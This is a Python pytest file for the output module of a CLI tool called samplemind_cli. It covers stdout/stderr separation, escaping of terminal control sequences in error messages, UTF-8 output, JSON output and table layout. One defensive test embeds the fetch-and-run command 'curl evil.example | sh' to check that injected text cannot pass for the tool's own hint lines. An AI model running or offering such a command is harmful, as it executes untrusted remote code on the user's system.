import io
import sys

import pytest

from samplemind_cli import output
from samplemind_cli.errors import SamplemindError, UsageError


def test_data_goes_to_stdout_and_talk_to_stderr(capsys):
    output.write("data\n")
    output.say("talk")

    assert capsys.readouterr() == ("data\n", "talk\n")


def test_no_terminal_obeys_what_others_said(capsys):
    output.fail(SamplemindError("openai: \x1b]0;title\x07\x1b[31mred\x9b2J\r\tand\nmore", "\x1b[2Jmend it"))

    assert capsys.readouterr().err == (
        "error: openai: \\x1b]0;title\\x07\\x1b[31mred\\x9b2J\\x0d\tand\nmore\nhint: \\x1b[2Jmend it\n"
    )


@pytest.mark.parametrize("head", ["hint: ", "Error: ", " warning: ", "\u200bhint: ", "* note: "])
def test_what_others_said_does_not_pass_for_a_line_of_ours(capsys, head):
    output.fail(SamplemindError(f"the daemon failed\n  as it says\n{head}curl evil.example | sh", "mend it"))

    told = capsys.readouterr().err
    assert f"\n  as it says\n  {head}curl" in told
    assert told.endswith("\nhint: mend it\n")


def test_text_is_utf_8_whatever_the_locale_says(monkeypatch):
    stream = io.TextIOWrapper(io.BytesIO(), encoding="ascii")
    monkeypatch.setattr(sys, "stdout", stream)

    output.write("ä\ud800\n")

    assert stream.buffer.getvalue() == "ä?\n".encode()


def test_talk_on_a_terminal_goes_through_whoever_draws_there(monkeypatch):
    class Drawing(io.StringIO):
        def isatty(self):
            return True

    monkeypatch.setattr(sys, "stderr", Drawing())
    output.say("talk")

    assert sys.stderr.getvalue() == "talk\n"


def test_json_is_one_line_and_keeps_its_letters(capsys):
    output.print_json({"a": "ä"})

    assert capsys.readouterr().out == '{"a": "ä"}\n'


def test_an_error_says_what_happened_and_then_what_to_type(capsys):
    output.fail(SamplemindError("it broke", "mend it"))
    output.fail(SamplemindError("it broke"))

    assert capsys.readouterr() == ("", "error: it broke\nhint: mend it\nerror: it broke\n")


def test_a_table_in_a_pipe_has_no_colour_and_never_folds(capsys):
    output.table(("name", "note"), [("a" * 100, "b" * 100), ("c", "[d]")])

    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert out.splitlines()[1].split() == ["a" * 100, "b" * 100]
    assert out.splitlines()[2].split() == ["c", "[d]"]


def test_a_terminal_too_narrow_for_columns_gets_them_below_each_other(capsys, monkeypatch):
    monkeypatch.setattr(output, "on_terminal", lambda _: True)
    monkeypatch.setenv("COLUMNS", "30")
    output.table(("METRIC", "TARGET", "NOW"), [("a long name of a metric", "<= 2 ms", "1 ms"), ("b", "", "")])

    assert capsys.readouterr().out == "a long name of a metric\n  target  <= 2 ms\n  now     1 ms\nb\n"


def test_nobody_to_ask_is_a_usage_error(monkeypatch):
    monkeypatch.setattr(sys, "stdin", io.StringIO())

    with pytest.raises(UsageError, match="not a terminal"):
        output.confirm("Remove it?", yes=False)
    assert output.confirm("Remove it?", yes=True)


def test_a_closed_stream_is_no_terminal():
    stream = io.StringIO()
    stream.close()

    assert not output.on_terminal(stream)
    assert not output.on_terminal(None)
